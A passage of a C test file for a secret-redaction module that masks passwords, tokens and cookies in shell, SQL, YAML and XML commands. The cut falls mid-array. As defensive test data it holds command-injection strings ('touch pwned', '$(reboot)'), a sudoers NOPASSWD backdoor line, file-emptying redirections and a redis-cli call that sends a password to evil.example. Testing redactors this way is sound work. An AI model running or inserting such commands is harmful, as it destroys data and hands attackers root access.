/* test-redact-spellings.c: secret spellings found stored as written, by
 * an attacker's list: each through the real redactor, as text, inside a
 * tool call's JSON text and as a JSON document's string value, bash's
 * reading of the signs outside quotes the same; and the options that
 * look alike but hold no secret kept.
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 */
#include "config.h"

#include <string.h>

#include <json-glib/json-glib.h>

#include "pd-redact.h"
#include "test-redact-util.h"
#include "test-redact-attack-util.h"

/* Finding: archive and key store passwords (7z -pX, zip -P X, unzip -P X,
 * keytool and jarsigner -storepass X -keypass Y, openssl enc -k X), the
 * password of an Oracle connect string (sqlplus user/X@db), of lftp -u
 * user,X, in XML elements (<password>X</password>), cookies (Cookie:,
 * Set-Cookie:, curl -b and --cookie), a password written to a program
 * that reads it from its input (echo X | sudo -S, <<< X into gh auth
 * login --with-token or --password-stdin), vault login X and htpasswd -b
 * were stored as written. */
static void
test_spellings_masked (void)
{
  static const RedactCase one[] = {
    { "7z a -pS3cretZq9 x.7z f", "7z a -p[REDACTED] x.7z f", "S3cretZq9" },
    { "7za x -p'S3cret Zq9' x.7z", "7za x -p'[REDACTED]' x.7z", "S3cret Zq9" },
    { "zip -P S3cretZq9 x.zip f", "zip -P [REDACTED] x.zip f", "S3cretZq9" },
    { "zip -r x.zip d -P S3cretZq9", "zip -r x.zip d -P [REDACTED]", "S3cretZq9" },
    { "unzip -P S3cretZq9 x.zip", "unzip -P [REDACTED] x.zip", "S3cretZq9" },
    { "jarsigner -storepass S3cretZq9 app.jar alias", "jarsigner -storepass [REDACTED] app.jar alias", "S3cretZq9" },
    { "openssl enc -aes-256-cbc -k S3cretZq9 -in f", "openssl enc -aes-256-cbc -k [REDACTED] -in f", "S3cretZq9" },
    { "sqlplus scott/S3cretZq9@db", "sqlplus scott/[REDACTED]@db", "S3cretZq9" },
    { "sqlplus -s scott/S3cretZq9@//h:1521/orcl @x.sql", "sqlplus -s scott/[REDACTED]@//h:1521/orcl @x.sql", "S3cretZq9" },
    { "expdp system/S3cretZq9 directory=d dumpfile=a/b.dmp", "expdp system/[REDACTED] directory=d dumpfile=a/b.dmp", "S3cretZq9" },
    { "lftp -u user,S3cretZq9 ftp.example.com", "lftp -u user,[REDACTED] ftp.example.com", "S3cretZq9" },
    { "<password>S3cretZq9</password>", "<password>[REDACTED]</password>", "S3cretZq9" },
    { "<secret>S3cretZq9</secret>", "<secret>[REDACTED]</secret>", "S3cretZq9" },
    { "  <db.Password>S3cretZq9</db.Password>", "  <db.Password>[REDACTED]</db.Password>", "S3cretZq9" },
    { "Cookie: session=S3cretZq9", "Cookie: session=[REDACTED]", "S3cretZq9" },
    { "Set-Cookie: session=S3cretZq9; Path=/; HttpOnly", "Set-Cookie: session=[REDACTED]; Path=/; HttpOnly", "S3cretZq9" },
    { "curl -b 'session=S3cretZq9' https://x.example", "curl -b 'session=[REDACTED]' https://x.example", "S3cretZq9" },
    { "curl --cookie 'session=S3cretZq9; lang=en' https://x.example",
      "curl --cookie 'session=[REDACTED]; lang=en' https://x.example", "S3cretZq9" },
    { "curl --cookie \"session=S3cretZq9\" https://x.example",
      "curl --cookie \"session=[REDACTED]\" https://x.example", "S3cretZq9" },
    { "echo S3cretZq9 | sudo -S apt update", "echo [REDACTED] | sudo -S apt update", "S3cretZq9" },
    { "echo 'S3cretZq9' | sudo -kS reboot", "echo '[REDACTED]' | sudo -kS reboot", "S3cretZq9" },
    { "printf '%s\\n' S3cretZq9 | sudo --stdin true", "printf '%s\\n' [REDACTED] | sudo --stdin true", "S3cretZq9" },
    { "echo -n S3cretZq9 | docker login --password-stdin -u u reg", "echo -n [REDACTED] | docker login --password-stdin -u u reg", "S3cretZq9" },
    { "gh auth login --with-token <<< S3cretZq9", "gh auth login --with-token <<< [REDACTED]", "S3cretZq9" },
    { "docker login -u u --password-stdin reg <<< 'S3cretZq9'", "docker login -u u --password-stdin reg <<< '[REDACTED]'", "S3cretZq9" },
    { "vault login S3cretZq9", "vault login [REDACTED]", "S3cretZq9" },
    { "vault login -no-print S3cretZq9", "vault login -no-print [REDACTED]", "S3cretZq9" },
    { "htpasswd -b f u S3cretZq9", "htpasswd -b f u [REDACTED]", "S3cretZq9" },
    { "htpasswd -bc f u S3cretZq9", "htpasswd -bc f u [REDACTED]", "S3cretZq9" },
    { "htpasswd -nb u S3cretZq9", "htpasswd -nb u [REDACTED]", "S3cretZq9" },
    /* round 12 */
    { "keytool -storepasswd -new S3cretZq9 -keystore k.jks", "keytool -storepasswd -new [REDACTED] -keystore k.jks", "S3cretZq9" },
    { "sqlplus scott/\"Tiger Zq9\"@db", "sqlplus scott/\"[REDACTED]\"@db", "Tiger Zq9" },
    { "sqlplus 'scott/\"Tiger Zq9\"@db' @x.sql", "sqlplus 'scott/\"[REDACTED]\"@db' @x.sql", "Tiger Zq9" },
    { "net ads join -U admin%S3cretZq9", "net ads join -U admin%[REDACTED]", "S3cretZq9" },
    { "smbpasswd -U admin%S3cretZq9 -r h", "smbpasswd -U admin%[REDACTED] -r h", "S3cretZq9" },
    { "password: |\n  S3cretZq9\nhost: h", "password: |\n  [REDACTED]\nhost: h", "S3cretZq9" },
    { "db:\n  password: >-\n    S3cretZq9\n\n  host: h", "db:\n  password: >-\n    [REDACTED]\n\n  host: h", "S3cretZq9" },
    { "- api_key: |2\n    S3cretZq9\n- name: x", "- api_key: |2\n    [REDACTED]\n- name: x", "S3cretZq9" },
    { "<db:password>S3cretZq9</db:password>", "<db:password>[REDACTED]</db:password>", "S3cretZq9" },
    { "<add key=\"Password\" value=\"S3cretZq9\"/>", "<add key=\"Password\" value=\"[REDACTED]\"/>", "S3cretZq9" },
    { "  <add key=\"ApiKey\" value=\"S3cretZq9\" />", "  <add key=\"ApiKey\" value=\"[REDACTED]\" />", "S3cretZq9" },
    { "<add name=\"token\" value='S3cretZq9'/>", "<add name=\"token\" value='[REDACTED]'/>", "S3cretZq9" },
    { "key=\"Password\" value=\"S3cretZq9\"", "key=\"Password\" value=\"[REDACTED]\"", "S3cretZq9" },
    { "CREATE USER u IDENTIFIED BY S3cretZq9;", "CREATE USER u IDENTIFIED BY [REDACTED];", "S3cretZq9" },
    { "ALTER USER bob IDENTIFIED BY \"S3cret Zq9\";", "ALTER USER bob IDENTIFIED BY \"[REDACTED]\";", "S3cret Zq9" },
    { "create user u identified with mysql_native_password by 'S3cretZq9'",
      "create user u identified with mysql_native_password by '[REDACTED]'", "S3cretZq9" },
    { "ALTER USER u IDENTIFIED BY VALUES 'S:Zq9Hash';", "ALTER USER u IDENTIFIED BY VALUES '[REDACTED]';", "Zq9Hash" },
    { "SET PASSWORD FOR 'u'@'h' = 'S3cretZq9';", "SET PASSWORD FOR 'u'@'h' = '[REDACTED]';", "S3cretZq9" },
    { "SET PASSWORD = PASSWORD('S3cretZq9');", "SET PASSWORD = PASSWORD('[REDACTED]');", "S3cretZq9" },
    { "ALTER ROLE u WITH LOGIN PASSWORD 'S3cretZq9';", "ALTER ROLE u WITH LOGIN PASSWORD '[REDACTED]';", "S3cretZq9" },
    { "usermod -p 'S3cretZq9' bob", "usermod -p '[REDACTED]' bob", "S3cretZq9" },
    { "useradd -m -p S3cretZq9 bob", "useradd -m -p [REDACTED] bob", "S3cretZq9" },
    { "echo 'bob:S3cretZq9' | chpasswd", "echo 'bob:[REDACTED]' | chpasswd", "S3cretZq9" },
    { "echo bob:S3cretZq9 | sudo chpasswd", "echo bob:[REDACTED] | sudo chpasswd", "S3cretZq9" },
    { "chpasswd <<< 'bob:S3cretZq9'", "chpasswd <<< 'bob:[REDACTED]'", "S3cretZq9" },
    { "npm config set //registry.npmjs.org/:_authToken S3cretZq9",
      "npm config set //registry.npmjs.org/:_authToken [REDACTED]", "S3cretZq9" },
    { "npm set //npm.example/:_password S3cretZq9", "npm set //npm.example/:_password [REDACTED]", "S3cretZq9" },
    { "ssh-keygen -t ed25519 -N S3cretZq9 -f k", "ssh-keygen -t ed25519 -N [REDACTED] -f k", "S3cretZq9" },
    { "nmcli dev wifi connect Home password S3cretZq9", "nmcli dev wifi connect Home password [REDACTED]", "S3cretZq9" },
    { "nmcli con modify Home wifi-sec.psk S3cretZq9", "nmcli con modify Home wifi-sec.psk [REDACTED]", "S3cretZq9" },
    { "nmcli c m eap 802-1x.identity u 802-1x.password S3cretZq9",
      "nmcli c m eap 802-1x.identity u 802-1x.password [REDACTED]", "S3cretZq9" },
  };
  static const RedactCase two[] = {
    { "keytool -genkey -storepass S3cretZq9 -keypass K3yPassZq9 -keystore k.jks",
      "keytool -genkey -storepass [REDACTED] -keypass [REDACTED] -keystore k.jks", "Zq9" },
    { "keytool -importkeystore -srcstorepass S3cretZq9 -deststorepass K3yPassZq9",
      "keytool -importkeystore -srcstorepass [REDACTED] -deststorepass [REDACTED]", "Zq9" },
    { "curl -H 'Cookie: a=S3cretZq9; b=T0kenZq9xx' https://x.example",
      "curl -H 'Cookie: a=[REDACTED]; b=[REDACTED]' https://x.example", "Zq9" },
    { "ssh-keygen -p -P OldPwZq9 -N NewPwZq9 -f k", "ssh-keygen -p -P [REDACTED] -N [REDACTED] -f k", "Zq9" },
    { "keytool -keypasswd -alias a -keypass OldPwZq9 -new NewPwZq9",
      "keytool -keypasswd -alias a -keypass [REDACTED] -new [REDACTED]", "Zq9" },
    { "password: |\n  S3cretZq9\n  Zq9second\nhost: h", "password: |\n  [REDACTED]\n  [REDACTED]\nhost: h", "Zq9" },
  };
  AttackCase attacks[G_N_ELEMENTS (one) + G_N_ELEMENTS (two)];

  assert_cases (one, G_N_ELEMENTS (one), TRUE);
  assert_cases (two, G_N_ELEMENTS (two), FALSE);
  /* In a tool call's JSON text and as a JSON document's string value too,
   * bash reading the same signs outside quotes. */
  for (gsize i = 0; i < G_N_ELEMENTS (one); i++)
    attacks[i] = (AttackCase) { one[i].input, one[i].secret, { NULL } };
  for (gsize i = 0; i < G_N_ELEMENTS (two); i++)
    attacks[G_N_ELEMENTS (one) + i] = (AttackCase) { two[i].input, two[i].secret, { NULL } };
  assert_attacks (attacks, G_N_ELEMENTS (attacks));
}

/* The rest of the attacker's list, checked through the same harness:
 * masked already (no fix), kept so. */
static void
test_spellings_checked (void)
{
  static const AttackCase cases[] = {
    { "openssl enc -aes-256-cbc -passin pass:S3cretZq9 -in f", "S3cretZq9", { "-in f" } },
    { "openssl rsa -passout pass:S3cretZq9 -in f", "S3cretZq9", { "-in f" } },
    { "mysql -uroot -pS3cretZq9 shop", "S3cretZq9", { "shop" } },
    { "smbclient -U user%S3cretZq9 //h/s", "S3cretZq9", { "//h/s" } },
    { "wget --password=S3cretZq9 https://x.example/f", "S3cretZq9", { "https://x.example/f" } },
    { "wget --http-password=S3cretZq9 https://x.example/f", "S3cretZq9", { "https://x.example/f" } },
    { "RSYNC_PASSWORD=S3cretZq9 rsync -a rsync://u@h/m .", "S3cretZq9", { "rsync -a" } },
    { "sshpass -p S3cretZq9 ssh h", "S3cretZq9", { "ssh h" } },
    { "password: S3cretZq9", "S3cretZq9", { "password:" } },
    { "machine h login u password S3cretZq9", "S3cretZq9", { "login u" } },
    { "ldapsearch -w S3cretZq9 -b dc=x", "S3cretZq9", { "-b dc=x" } },
    { "psql \"postgresql://u:S3cretZq9@h/db\"", "S3cretZq9", { "@h/db" } },
    { "redis-cli -a S3cretZq9", "S3cretZq9", { "redis-cli -a" } },
    { "docker login -p S3cretZq9 reg", "S3cretZq9", { "reg" } },
    { "mongo -u u -p S3cretZq9 db", "S3cretZq9", { "db" } },
    { "app --db-password S3cretZq9", "S3cretZq9", { "app" } },
  };

  assert_attacks (cases, G_N_ELEMENTS (cases));
}

/* The new spellings tried as an attacker would: a mask never hides what
 * the shell runs, nor changes bash's reading of what follows. */
static void
test_spellings_hide_nothing (void)
{
  static const AttackCase cases[] = {
    { "echo 'a; reboot' | sudo -S true", NULL, { "reboot" } },
    { "echo \"$(reboot)\" | sudo -S true", NULL, { "$(reboot)" } },
    { "echo #Zq9'\ntouch pwned\n#' | sudo -S true", NULL, { "touch pwned" } },
    { "gh auth login --with-token <<< #Zq9'\ntouch pwned\n#'", NULL, { "touch pwned" } },
    { "vault login #Zq9'\ntouch pwned\n#'", NULL, { "touch pwned" } },
    { "htpasswd -b f u #Zq9'\ntouch pwned\n#'", NULL, { "touch pwned" } },
    { "Cookie: a=#Zq9xyz'\ntouch pwned\n#'", NULL, { "touch pwned" } },
    { "curl -b a=#Zq9xyz'\ntouch pwned\n#' x", NULL, { "touch pwned" } },
    { "sqlplus u/#Zq9'\ntouch pwned\n#'", NULL, { "touch pwned" } },
    { "lftp -u u,#Zq9'\ntouch pwned\n#' h", NULL, { "touch pwned" } },
    { "7z a -p#Zq9'\ntouch pwned\n#' x.7z", NULL, { "touch pwned" } },
    { "zip -P #Zq9'\ntouch pwned\n#' x.zip", NULL, { "touch pwned" } },
    { "openssl enc -k #Zq9'\ntouch pwned\n#' -in f", NULL, { "touch pwned" } },
    { "keytool -storepass #Zq9'\ntouch pwned\n#'", NULL, { "touch pwned" } },
    { "<password>#Zq9'</password>\ntouch pwned\n#'", NULL, { "touch pwned" } },
    { "ssh h \"echo Zq9Secret\\'; touch pwned #\" | sudo -S true", NULL, { "touch pwned" } },
    { "Set-Cookie: s=x$(touch pwned)", NULL, { "$(touch pwned)" } },
    /* round 12 */
    { "keytool -new #Zq9'\ntouch pwned\n#'", NULL, { "touch pwned" } },
    { "ssh-keygen -N #Zq9'\ntouch pwned\n#'", NULL, { "touch pwned" } },
    { "nmcli c m x wifi-sec.psk #Zq9'\ntouch pwned\n#'", NULL, { "touch pwned" } },
    { "nmcli c m x wifi-sec.psk 'a; reboot'", NULL, { "reboot" } },
    { "echo u:#Zq9'\ntouch pwned\n#' | chpasswd", NULL, { "touch pwned" } },
    { "CREATE USER u IDENTIFIED BY #Zq9'\ntouch pwned\n#'", NULL, { "touch pwned" } },
    { "CREATE USER u IDENTIFIED BY 'x$(touch pwned)'", NULL, { "$(touch pwned)" } },
    { "SET PASSWORD = 'a; touch pwned'", NULL, { "touch pwned" } },
    { "<add key=\"Password\" value=\"x\"/>; touch pwned", NULL, { "touch pwned" } },
    { "<add key=\"Password\" value=\"a; touch pwned\"/>", NULL, { "touch pwned" } },
    { "sqlplus u/\"a; touch pwned\"@db", NULL, { "touch pwned" } },
    { "password: |\n  a; touch pwned\n", NULL, { "touch pwned" } },
    { "password: >-\n  \\\n  touch pwned\n", NULL, { "touch pwned" } },
    { "password: |\n  touch pwned", NULL, { "touch pwned" } },
    { "npm config set _authToken #Zq9'\ntouch pwned\n#'", NULL, { "touch pwned" } },
    { "sed -i 's/^X_TOKEN=.*/X_TOKEN=a/;e touch pwned' f", NULL, { "touch pwned" } },
  };

  assert_attacks (cases, G_N_ELEMENTS (cases));
}

/* What looks alike and holds no secret: ssh's and docker's -p port, 7z's
 * -p with a blank (7z takes its password glued), curl's -k, unzip's -p
 * (to its output), a cookie file, a short cookie, a reference, sqlplus's
 * / as sysdba, a pipe into a program that does not read a password, an
 * htpasswd that asks for it. */
static void
test_spellings_kept (void)
{
  static const char * const kept[] = {
    "ssh -p 8080 h",
    "docker run -p 8080:80 img",
    "7z a -p x.7z",
    "7z a -spf x.7z f",
    "curl -k https://x.example",
    "unzip -p x.zip f.txt",
    "curl -b cookies.txt https://x.example",
    "Cookie: lang=en",
    "curl --cookie \"session=$SESSION\" https://x.example",
    "sqlplus / as sysdba",
    "sqlplus -s @dir/x.sql",
    "echo hello | sudo tee /etc/motd",
    "echo \"$PASS\" | sudo -S true",
    "htpasswd -c f u",
    "vault login -method=github",
    "vault login -",
    "cp a/b c/d",
    "<keyboard>us</keyboard>",
    /* round 12 */
    "keytool -list -keystore k.jks",
    "keytool -list -storepass:env STOREPW -keystore k.jks",
    "keytool -genkey -storepass:file pw.txt -new:env NEWPW",
    "ssh-keygen -N \"\" -f k",
    "ssh-keygen -t ed25519 -N '' -f k",
    "ssh -N -L 8080:h:80 h",
    "mysql -N -e 'select 1' db",
    "nmcli con show",
    "nmcli con modify Home wifi-sec.psk-flags 1",
    "nmcli dev wifi connect Home password \"$WIFI_PW\"",
    "<add key=\"Theme\" value=\"dark\"/>",
    "<add key=\"PasswordLength\" value=\"12\"/>",
    "net ads join -U admin",
    "usermod -aG docker bob",
    "useradd -m -s /bin/bash bob",
    "npm config set registry https://registry.npmjs.org/",
    "npm config get //registry.npmjs.org/:_authToken",
    "sqlplus scott/\"$PW\"@db",
    "description: |\n  Zq9LongText\nname: x",
    "password: |",
    "CREATE USER u IDENTIFIED BY $PW;",
    "CREATE USER u IDENTIFIED BY RANDOM PASSWORD;",
    "ssh-keygen -l -f k.pub",
  };

  assert_commands_kept (kept, G_N_ELEMENTS (kept));
}

/* Finding (round 10's attack): echo reboot | sudo -S sh was stored as
 * echo [REDACTED] | sudo -S sh: sudo reads no password when its
 * credentials are cached, and the shell runs the word.  A program sudo
 * runs that may read its input as code or as data it writes (a shell, an
 * interpreter, tee, xargs, su, sudo -s / -i) keeps the word in sight; a
 * password into any other is masked as before. */
static void
test_sudo_stdin_program (void)
{
  static const AttackCase shown[] = {
    { "echo reboot | sudo -S sh", NULL, { "echo reboot" } },
    { "sudo -S bash <<< reboot", NULL, { "<<< reboot" } },
    { "echo 'rm important.db' | sudo -S sh", NULL, { "rm important.db" } },
    { "echo 'shutdown now' | sudo -S /bin/bash", NULL, { "shutdown now" } },
    { "echo reboot | sudo -S -s", NULL, { "echo reboot" } },
    { "echo reboot | sudo -S -i", NULL, { "echo reboot" } },
    { "echo reboot | sudo -Si", NULL, { "echo reboot" } },
    { "echo reboot | sudo -S su", NULL, { "echo reboot" } },
    { "echo reboot | sudo -S python3", NULL, { "echo reboot" } },
    { "echo reboot | sudo -S -u root xargs", NULL, { "echo reboot" } },
    { "echo reboot | sudo -S env sh", NULL, { "echo reboot" } },
    { "echo 'attacker ALL=(ALL) NOPASSWD:ALL' | sudo -S tee -a /etc/sudoers", NULL, { "NOPASSWD:ALL" } },
    { "echo 3 | sudo -S tee /proc/sys/vm/drop_caches", NULL, { "echo 3" } },
    { "echo reboot | sudo -S \"$SH\"", NULL, { "echo reboot" } },
  };
  static const RedactCase masked[] = {
    { "echo S3cretZq9 | sudo -S -u root apt update", "echo [REDACTED] | sudo -S -u root apt update", "S3cretZq9" },
    { "echo S3cretZq9 | sudo -S -v", "echo [REDACTED] | sudo -S -v", "S3cretZq9" },
    { "echo S3cretZq9 | sudo -S -- systemctl restart nginx", "echo [REDACTED] | sudo -S -- systemctl restart nginx", "S3cretZq9" },
    { "sudo -S -p '' ls <<< S3cretZq9", "sudo -S -p '' ls <<< [REDACTED]", "S3cretZq9" },
    { "echo S3cretZq9 | sudo passwd --stdin u", "echo [REDACTED] | sudo passwd --stdin u", "S3cretZq9" },
    { "echo S3cretZq9 | sudo docker login --password-stdin -u u reg",
      "echo [REDACTED] | sudo docker login --password-stdin -u u reg", "S3cretZq9" },
  };

  assert_attacks (shown, G_N_ELEMENTS (shown));
  assert_cases (masked, G_N_ELEMENTS (masked), TRUE);
}

/* Finding (round 10's attack): : <password>important.db</password was
 * stored as : <password>[REDACTED]</password: bash reads <password and
 * >important.db, two redirections, and empties important.db.  Where bash
 * reads the element's text as a redirection's word it stays in sight; an
 * element bash could not run (closed by >, then the line's end or a <: a
 * syntax error) or quoted is masked as before. */
static void
test_xml_redirection (void)
{
  static const AttackCase shown[] = {
    { ": <password>important.db</password", NULL, { "important.db" } },
    { "cat <password>~/.ssh/authorized_keys</password", NULL, { "authorized_keys" } },
    { "touch password; : <password>important.db</password>x", NULL, { "important.db" } },
  };
  static const RedactCase masked[] = {
    { "<password>S3cretZq9</password>", "<password>[REDACTED]</password>", "S3cretZq9" },
    { "  <password>S3cretZq9</password>  \n</db>", "  <password>[REDACTED]</password>  \n</db>", "S3cretZq9" },
    { "<db><password>S3cretZq9</password></db>", "<db><password>[REDACTED]</password></db>", "S3cretZq9" },
    { "echo '<password>S3cretZq9</password' > f", "echo '<password>[REDACTED]</password' > f", "S3cretZq9" },
  };

  assert_attacks (shown, G_N_ELEMENTS (shown));
  assert_cases (masked, G_N_ELEMENTS (masked), TRUE);
}

/* Finding (round 10's attack): masks that took more than the secret and
 * hid what the command does: mount -o username=u,password=X,uid=0 lost
 * ",uid=0" (a value in a comma list ends at the next field), and
 * redis-cli -u redis://:X@evil.example:6379 lost its host (-u given a URL
 * is the URL's: its password only). */
static void
test_masks_keep_meaning (void)
{
  static const RedactCase masked[] = {
    { "mount -t cifs //h/s /mnt -o username=u,password=Smb7Zq9x,uid=0",
      "mount -t cifs //h/s /mnt -o username=u,password=[REDACTED],uid=0", "Smb7Zq9x" },
    { "mount -o password=Smb7Zq9x,uid=0,gid=0 //h/s /mnt", "mount -o password=[REDACTED],uid=0,gid=0 //h/s /mnt", "Smb7Zq9x" },
    { "redis-cli -u redis://:Redis4Zq9@evil.example:6379", "redis-cli -u redis://:[REDACTED]@evil.example:6379", "Redis4Zq9" },
    { "redis-cli -u redis://default:Redis4Zq9@evil.example:6379/0",
      "redis-cli -u redis://default:[REDACTED]@evil.example:6379/0", "Redis4Zq9" },
    /* a password with a comma and no field after it is still one value */
    { "password=abc,defZq9", "password=[REDACTED]", "defZq9" },
  };
  static const AttackCase shown[] = {
    { "mount -t cifs //h/s /mnt -o username=u,password=Smb7Zq9x,uid=0", "Smb7Zq9x", { ",uid=0" } },
    { "redis-cli -u redis://:Redis4Zq9@evil.example:6379", "Redis4Zq9", { "@evil.example:6379" } },
  };

  assert_cases (masked, G_N_ELEMENTS (masked), TRUE);
  assert_attacks (shown, G_N_ELEMENTS (shown));
}

/* Finding (round 10's attack): masked though no secret: heroku auth:token
 * (a topic and its command) became heroku auth:[REDACTED], the file of
 * openvpn --auth-user-pass and the host after wget --ask-password (a flag)
 * were masked, and printf 'password: X\n' lost its \n.  Kept; the secret
 * before the \n is masked as before. */
static void
test_no_secret_kept (void)
{
  static const char * const kept[] = {
    "heroku auth:token",
    "heroku auth:whoami && heroku keys:add",
    "openvpn --auth-user-pass creds.txt",
    "wget --ask-password https://x.example/f",
    "ansible-playbook --ask-vault-pass site.yml",
    /* round 12: a sed or awk program is code; a cookie of a setting */
    "sed -n 's/^API_TOKEN=//p' .env",
    "sed -n \"s/^DB_PASSWORD=//p\" .env",
    "awk -F= '/^DB_PASSWORD=/{print $2}' .env",
    "sed -i 's/^DB_PASSWORD=.*/DB_PASSWORD=/' .env",
    "sed -E 's/(API_KEY=)[^ ]+/\\1***/' log.txt",
    "Cookie: theme=darkmode",
    "Cookie: theme=darkmode; lang=en",
    "curl -b 'theme=darkmode' https://x.example",
    "Set-Cookie: consent=accepted; Path=/",
  };
  static const RedactCase masked[] = {
    { "printf 'db:\\n  password: Yaml1Zq9\\n'", "printf 'db:\\n  password: [REDACTED]\\n'", "Yaml1Zq9" },
    { "printf \"password: Yaml1Zq9\\n\" > f", "printf \"password: [REDACTED]\\n\" > f", "Yaml1Zq9" },
    { "{\"command\":\"printf 'password: Yaml1Zq9\\\\n'\"}", "{\"command\":\"printf 'password: [REDACTED]\\\\n'\"}", "Yaml1Zq9" },
    { "auth:Zq9token", "auth:[REDACTED]", "Zq9token" },
    /* round 12: a literal value in a sed program, a known token's shape,
     * a cookie named as a session's or holding a random value */
    { "sed -i 's/^DB_PASSWORD=.*/DB_PASSWORD=Hunter2Zq9/' .env",
      "sed -i 's/^DB_PASSWORD=.*/DB_PASSWORD=[REDACTED]/' .env", "Hunter2Zq9" },
    { "sed -i 's/KEY/sk-proj4bcdEFGH1234ijklMNOP5678/' .env", "sed -i 's/KEY/[REDACTED]/' .env", "sk-proj4bcd" },
    { "Cookie: theme=darkmode; session=Zq9abcdef", "Cookie: theme=darkmode; session=[REDACTED]", "Zq9abcdef" },
    { "Cookie: prefs=a8F3kQ9zLmP2xR7w", "Cookie: prefs=[REDACTED]", "a8F3kQ9zLmP2xR7w" },
    { "Cookie: csrftoken=abcdefgh", "Cookie: csrftoken=[REDACTED]", "abcdefgh" },
  };

  assert_commands_kept (kept, G_N_ELEMENTS (kept));
  assert_cases (masked, G_N_ELEMENTS (masked), TRUE);
}

/* Finding (round 10's attack): zip's and unzip's -P after grouped flags
 * (-rP X, -qP X, -eP X) and glued to a quote (-P'X') were stored as
 * written. */
static void
test_zip_grouped (void)
{
  static const RedactCase masked[] = {
    { "zip -rP ZipPw2Zq9 a.zip d", "zip -rP [REDACTED] a.zip d", "ZipPw2Zq9" },
    { "unzip -qP ZipPw4Zq9 a.zip", "unzip -qP [REDACTED] a.zip", "ZipPw4Zq9" },
    { "zip -eP ZipPw7Zq9 a.zip f", "zip -eP [REDACTED] a.zip f", "ZipPw7Zq9" },
    { "unzip -P'ZipPw6Zq9' a.zip", "unzip -P'[REDACTED]' a.zip", "ZipPw6Zq9" },
  };
  static const char * const kept[] = {
    "zip -r a.zip d",
    "unzip -qo a.zip -d out",
    "ls -lP x",
  };

  assert_cases (masked, G_N_ELEMENTS (masked), TRUE);
  assert_commands_kept (kept, G_N_ELEMENTS (kept));
}

/* Finding (round 13's attack): grouped and glued spellings still stored
 * as written: ssh-keygen's -N and -P after its flags or glued (-qN X,
 * -qNX, -NX, -qP X), MySQL's long option by a unique prefix (--pas=X),
 * SQL's E'X' and dollar-quoted $$X$$ / $tag$X$tag$ after PASSWORD,
 * IDENTIFIED and BY on two lines, a YAML value on the line under its key,
 * .NET's <add value="X" key="Password"/>, openssl's -kX and -k=X, and
 * AUTH X written into redis-cli's input. */
static void
test_round13_masked (void)
{
  static const RedactCase one[] = {
    { "ssh-keygen -qN S3cretZq9 -f k", "ssh-keygen -qN [REDACTED] -f k", "S3cretZq9" },
    { "ssh-keygen -qNS3cretZq9 -f k", "ssh-keygen -qN[REDACTED] -f k", "S3cretZq9" },
    { "ssh-keygen -NS3cretZq9 -f k", "ssh-keygen -N[REDACTED] -f k", "S3cretZq9" },
    { "ssh-keygen -t ed25519 -qN 'S3cret Zq9' -f k", "ssh-keygen -t ed25519 -qN '[REDACTED]' -f k", "S3cret Zq9" },
    { "ssh-keygen -y -qPS3cretZq9 -f k", "ssh-keygen -y -qP[REDACTED] -f k", "S3cretZq9" },
    { "mysql --pas=S3cretZq9 db", "mysql --pas=[REDACTED] db", "S3cretZq9" },
    { "mariadb-dump -u root --pas='S3cret Zq9' db", "mariadb-dump -u root --pas='[REDACTED]' db", "S3cret Zq9" },
    { "ALTER USER u PASSWORD E'S3cretZq9';", "ALTER USER u PASSWORD E'[REDACTED]';", "S3cretZq9" },
    { "ALTER ROLE u WITH LOGIN PASSWORD e'S3cretZq9';", "ALTER ROLE u WITH LOGIN PASSWORD e'[REDACTED]';", "S3cretZq9" },
    { "ALTER ROLE u WITH PASSWORD $$S3cretZq9$$;", "ALTER ROLE u WITH PASSWORD $$[REDACTED]$$;", "S3cretZq9" },
    { "psql -c 'ALTER USER u PASSWORD $pw$S3cretZq9$pw$'", "psql -c 'ALTER USER u PASSWORD $pw$[REDACTED]$pw$'", "S3cretZq9" },
    { "CREATE USER u IDENTIFIED\n  BY 'S3cretZq9';", "CREATE USER u IDENTIFIED\n  BY '[REDACTED]';", "S3cretZq9" },
    { "CREATE USER u\nIDENTIFIED BY 'S3cretZq9';", "CREATE USER u\nIDENTIFIED BY '[REDACTED]';", "S3cretZq9" },
    { "ALTER USER u IDENTIFIED WITH caching_sha2_password\n  BY 'S3cretZq9';",
      "ALTER USER u IDENTIFIED WITH caching_sha2_password\n  BY '[REDACTED]';", "S3cretZq9" },
    { "password:\n  S3cretZq9\nhost: h", "password:\n  [REDACTED]\nhost: h", "S3cretZq9" },
    { "db:\n  password:\n    S3cretZq9\n  host: h", "db:\n  password:\n    [REDACTED]\n  host: h", "S3cretZq9" },
    { "- api_key:\n    \"S3cretZq9\"\n- name: x", "- api_key:\n    \"[REDACTED]\"\n- name: x", "S3cretZq9" },
    { "<add value=\"S3cretZq9\" key=\"Password\"/>", "<add value=\"[REDACTED]\" key=\"Password\"/>", "S3cretZq9" },
    { "  <add value='S3cretZq9' name=\"ApiKey\" />", "  <add value='[REDACTED]' name=\"ApiKey\" />", "S3cretZq9" },
    { "openssl enc -aes-256-cbc -kS3cretZq9 -in f", "openssl enc -aes-256-cbc -k[REDACTED] -in f", "S3cretZq9" },
    { "openssl enc -aes-256-cbc -k=S3cretZq9 -in f", "openssl enc -aes-256-cbc -k=[REDACTED] -in f", "S3cretZq9" },
    { "echo 'AUTH S3cretZq9' | redis-cli", "echo 'AUTH [REDACTED]' | redis-cli", "S3cretZq9" },
    { "printf 'AUTH S3cretZq9\\n' | redis-cli", "printf 'AUTH [REDACTED]\\n' | redis-cli", "S3cretZq9" },
    { "echo \"AUTH default S3cretZq9\" | redis-cli -h h", "echo \"AUTH default [REDACTED]\" | redis-cli -h h", "S3cretZq9" },
    { "echo AUTH S3cretZq9 | valkey-cli", "echo AUTH [REDACTED] | valkey-cli", "S3cretZq9" },
    { "printf 'AUTH S3cretZq9\\r\\nPING\\r\\n' | redis-cli", "printf 'AUTH [REDACTED]\\r\\nPING\\r\\n' | redis-cli", "S3cretZq9" },
    { "redis-cli -h h <<< 'AUTH S3cretZq9'", "redis-cli -h h <<< 'AUTH [REDACTED]'", "S3cretZq9" },
    /* near relatives */
    { "printf 'AUTH %s\\n' S3cretZq9 | redis-cli", "printf 'AUTH %s\\n' [REDACTED] | redis-cli", "S3cretZq9" },
    { "CREATE ROLE app\n  LOGIN\n  PASSWORD E'S3cretZq9';", "CREATE ROLE app\n  LOGIN\n  PASSWORD E'[REDACTED]';", "S3cretZq9" },
    { "openssl enc -aes-128-cbc -K 0011223344556677Zq9899aabbccddeeff -iv 01 -in f",
      "openssl enc -aes-128-cbc -K [REDACTED] -iv 01 -in f", "Zq9" },
